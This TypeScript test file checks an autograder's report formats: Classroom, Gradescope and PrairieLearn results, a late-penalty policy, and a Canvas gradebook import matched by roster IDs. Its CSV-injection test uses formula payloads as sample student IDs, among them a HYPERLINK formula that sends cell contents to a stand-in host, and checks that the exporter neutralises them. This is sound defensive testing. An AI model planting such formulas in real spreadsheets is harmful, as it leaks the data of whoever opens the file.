/**
 * The engines' formats without running the grader: Classroom's entries for cases that timed out,
 * crashed or did not run; the late policy; the Canvas import; CSV injection through the files an
 * instructor opens in a spreadsheet. (engines.test.ts runs the bundles.)
 */
import { test } from "uvu";
import * as assert from "uvu/assert";
import { canvasCsv, latePenalty, parseLatePolicy, prairielearnResults, readRoster } from "../engines";
import type { GradedCase } from "../harness/evaluate";
import { parseArgs } from "../grade";
import {
  classroomResult,
  csvField,
  gradebookCsv,
  gradescopeResults,
  manualTemplate,
  parseCsv,
  readManualScores,
  type StudentResult,
} from "../reports";

const student = (id: string, score: number, cases: GradedCase[] = []): StudentResult =>
  ({
    student: id,
    files: [],
    fingerprint: "",
    score,
    maxScore: 128,
    exercises: [{ id: "6.4.2", title: "梯度裁剪", score, maxScore: 128, cell: null, cases }],
    written: [{ id: "6.4.2", title: "", question: "", maxPoints: 2, answer: "a", cell: null }],
    problems: [],
    notes: [],
    seconds: 1.4,
    children: 1,
  }) as StudentResult;

const c = (name: string, points: number, status: GradedCase["status"], message?: string): GradedCase => ({
  name,
  points,
  visibility: "hidden",
  status,
  message,
});

test("Classroom: a 2-point case is two 1-point tests; timeouts, crashes and cases not run are errors whose message names the test", () => {
  const r = student("s", 2, [
    c("范数", 2, "passed"),
    c("超时的", 1, "timeout", "超过时间限制 10 秒"),
    c("崩溃的", 1, "crashed", "评分进程意外退出"),
    c("没跑的", 1, "not-run"),
    c("抛错的", 2, "error", "TypeError: x is undefined"),
  ]);
  const gc = classroomResult(r) as {
    max_score: number;
    status: string;
    tests: { name: string; status: string; message: string | null; score: number }[];
  };
  assert.is(gc.max_score, 7);
  assert.equal(
    gc.tests.map((t) => [t.name, t.status, t.score]),
    [
      ["练习 6.4.2：范数（第 1/2 分）", "pass", 1],
      ["练习 6.4.2：范数（第 2/2 分）", "pass", 1],
      ["练习 6.4.2：超时的", "error", 0],
      ["练习 6.4.2：崩溃的", "error", 0],
      ["练习 6.4.2：没跑的", "error", 0],
      ["练习 6.4.2：抛错的（第 1/2 分）", "fail", 0],
      ["练习 6.4.2：抛错的（第 2/2 分）", "fail", 0],
    ],
  );
  assert.is(gc.tests[2].message, "练习 6.4.2：超时的：超时：超过时间限制 10 秒");
  assert.is(gc.tests[4].message, "练习 6.4.2：没跑的：未运行");
  assert.is(gc.status, "error");
  assert.throws(() => classroomResult(student("s", 0, [c("半分", 0.5, "passed")])), /expected a whole number of points >= 1, got 0\.5/);
});

test("Gradescope: hidden visibility is the option's, output is fenced Markdown, execution_time in seconds, no top-level max_score", () => {
  const r = student("s", 2, [c("范数", 2, "passed"), c("抛错的", 1, "error", "```\n## 7 / 7 <script>")]);
  const gs = gradescopeResults(r, { hiddenVisibility: "after_due_date", late: { daysLate: 1, percent: 10 } }) as Record<string, unknown> & {
    tests: { visibility: string; output: string }[];
  };
  assert.not.ok("max_score" in gs);
  assert.is(gs.execution_time, 1);
  assert.is(gs.score, 1.8);
  assert.ok(gs.tests.every((t) => t.visibility === "after_due_date"));
  assert.is(gs.tests[1].output, "**出错**\n\n````text\n```\n## 7 / 7 <script>\n````");
});

test("the late policy: documented form, started days, extensions, the cap; bad input is refused by name", () => {
  const p = parseLatePolicy("10%/day,max=25%");
  const meta = (created: string, extra: object = {}) => ({
    created_at: created,
    assignment: { due_date: "2026-11-20T12:00:00Z" },
    ...extra,
  });
  assert.equal(latePenalty(p, meta("2026-11-20T11:00:00Z")), { daysLate: 0, percent: 0 });
  assert.equal(latePenalty(p, meta("2026-11-20T12:00:01Z")), { daysLate: 1, percent: 10 });
  assert.equal(latePenalty(p, meta("2026-11-25T12:00:00Z")), { daysLate: 5, percent: 25 });
  assert.equal(latePenalty(p, meta("2026-11-21T13:00:00Z", { users: [{ assignment: { due_date: "2026-11-22T12:00:00Z" } }] })), {
    daysLate: 0,
    percent: 0,
  });
  assert.throws(() => latePenalty(p, { created_at: "soon", assignment: {} }), /created_at: expected an ISO 8601 time, got "soon"/);
  assert.throws(() => parseLatePolicy("10 per day"), /--late-policy: expected <P>%\/day/);
  assert.throws(() => parseArgs(["x", "--out", "o", "--late-policy", "0%/day"]), /--late-policy/);
  assert.throws(
    () => parseArgs(["x", "--out", "o", "--hidden-visibility", "later"]),
    /--hidden-visibility: expected after_published or after_due_date, got "later"/,
  );
});

test("Canvas: the gradebook import from a roster, matched by SIS Login ID, SIS User ID or ID, never guessed; a bad roster is refused", () => {
  const header = "Student,ID,SIS User ID,SIS Login ID,Section";
  const roster = readRoster(
    `${header}\n    Points Possible,,,,\n"Li, Wei",101,s1,wli,A\nZhang San,102,s2,zs,B\nNo Result,103,s3,nr,B\n`,
    "r.csv",
  );
  const student = (id: string, score: number): StudentResult =>
    ({
      student: id,
      score,
      maxScore: 128,
      exercises: [],
      written: [{ id: "6.4.2", title: "", question: "", maxPoints: 2, answer: "a", cell: null }],
    }) as unknown as StudentResult;
  const { csv, unmatched } = canvasCsv(
    [student("wli", 100), student("s2", 64), student("ghost", 1)],
    new Map([["wli", new Map([["6.4.2", 2]])]]),
    roster,
  );
  const lines = csv.trim().split("\n");
  assert.is(lines[0], `${header},第六章 代码练习（自动评分）,第六章 书面练习`);
  assert.is(lines[1], "Points Possible,,,,,128,2");
  assert.is(lines[2], '"Li, Wei",101,s1,wli,A,100,2');
  assert.is(lines[3], "Zhang San,102,s2,zs,B,64,", "written stays empty until scored");
  assert.is(lines[4], "No Result,103,s3,nr,B,,");
  assert.equal(unmatched, ["ghost"]);
  // A grade is never guessed onto a row: "103" is one row's Canvas ID and another's SIS User ID, and
  // "zs" and "s2" are the same row's login and SIS User ID (two submissions for one student).
  const tricky = readRoster(`${header}\nA,103,x1,a,A\nB,104,103,b,A\nZhang San,102,s2,zs,B\nC,105,s5,c,B\n`, "t.csv");
  const seen = canvasCsv([student("103", 90), student("zs", 80), student("s2", 70), student("c", 60)], new Map(), tricky);
  assert.equal(seen.csv.trim().split("\n").slice(2), ["A,103,x1,a,A,,", "B,104,103,b,A,,", "Zhang San,102,s2,zs,B,,", "C,105,s5,c,B,60,"]);
  assert.equal(seen.unmatched, []);
  // Letter case: "C" is row C's login but for case; "Ab" matches two logins but for case, "ab" one exactly.
  const cased = readRoster(`${header}\nA,1,,ab,A\nB,2,,AB,A\nC,3,,c,A\n`, "c.csv");
  const byCase = canvasCsv([student("ab", 50), student("Ab", 40), student("C", 30)], new Map(), cased);
  assert.equal(byCase.csv.trim().split("\n").slice(2), ["A,1,,ab,A,50,", "B,2,,AB,A,,", "C,3,,c,A,30,"]);
  assert.equal(byCase.unmatched, []);
  assert.equal(byCase.conflicts, ['student "Ab" matches 2 roster rows ("A" (ID 1), "B" (ID 2)): not exported']);
  assert.equal(seen.conflicts, [
    'student "103" matches 2 roster rows ("A" (ID 103), "B" (ID 104)): not exported',
    'roster row "Zhang San" (ID 102) is matched by 2 graded students ("zs", "s2"): not exported',
  ]);
  assert.throws(
    () => readRoster("Name,Email\nA,a@x\n", "bad.csv"),
    /--roster bad\.csv: expected the columns Student, ID, SIS User ID, SIS Login ID, Section .*missing Student, ID/,
  );
  assert.throws(() => readRoster(`${header}\nA,1,,,\nB,1,,,\n`, "dup.csv"), /dup\.csv, line 3: ID "1" is already on line 2/);
  assert.throws(() => parseArgs(["--out", "o", "--canvas"]), /--canvas: expected --roster FILE/);
});

test("PrairieLearn: a submission without any exercise cell is not gradable (the attempt does not count); otherwise score in 0..1", () => {
  const none = prairielearnResults(student("s", 0, [c("范数", 2, "error", "没有找到练习 6.4.2 的代码单元格")])) as Record<string, unknown>;
  assert.is(none.gradable, false);
  assert.ok(Array.isArray(none.format_errors));
  const base = student("s", 2, [c("范数", 2, "passed"), c("其他", 2, "failed", "不对")]);
  const some = { ...base, maxScore: 4, exercises: [{ ...base.exercises[0], cell: "a.ipynb 第 3 个单元格", maxScore: 4 }] };
  const r = prairielearnResults(some) as { gradable: boolean; score: number; tests: { points: number; max_points: number }[] };
  assert.is(r.gradable, true);
  assert.is(r.score, 0.5);
  assert.equal(
    r.tests.map((t) => [t.points, t.max_points]),
    [
      [2, 2],
      [0, 2],
    ],
  );
});

test("CSV injection: a formula-like student id or name is written after a ' in every CSV, and reads back as it was", () => {
  // A notebook named `=HYPERLINK(…).ipynb` is the student id of a class folder's entry.
  const texts = [
    '=HYPERLINK("http://x.test/?"&A1,"点我")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab",
    "\r=CR",
    "'=once",
    "''+twice",
    "'quote",
    "plain",
  ];
  for (const t of texts) {
    const field = csvField(t);
    assert.not.ok(/^"?[=+\-@\t\r]/.test(field), `${JSON.stringify(t)} is written as ${JSON.stringify(field)}`);
    assert.equal(parseCsv(`${field},x\n`), [[t, "x"]], `${JSON.stringify(t)} reads back`);
  }
  assert.is(csvField("'quote"), "'quote", "a plain text starting with ' is left alone");
  assert.is(csvField(-2), "-2", "numbers are written as they are");
  const evil = student(texts[0], 3);
  const book = gradebookCsv([evil], new Map());
  assert.ok(book.split("\n")[1].startsWith(`"'=HYPERLINK(`), book);
  // The manual-scores template, scored by hand, merges back onto the same student.
  const template = manualTemplate([evil]).replace(/,2,,$/m, ",2,1,");
  const merged = readManualScores(template, new Map([["6.4.2", 2]]));
  assert.equal(merged.errors, []);
  assert.is(merged.scores.get(texts[0])?.get("6.4.2"), 1);
  // canvas.csv: a roster name from Canvas is guarded too; the grade still lands on its row.
  const header = "Student,ID,SIS User ID,SIS Login ID,Section";
  const roster = readRoster(`${header}\n"=1+1",7,,${csvField(texts[0])},A\n`, "r.csv");
  assert.is(roster[0]["SIS Login ID"], texts[0]);
  const canvas = canvasCsv([evil], new Map(), roster);
  assert.is(canvas.csv.trim().split("\n")[2], `'=1+1,7,,"'=HYPERLINK(""http://x.test/?""&A1,""点我"")",A,3,`);
});

test.run();
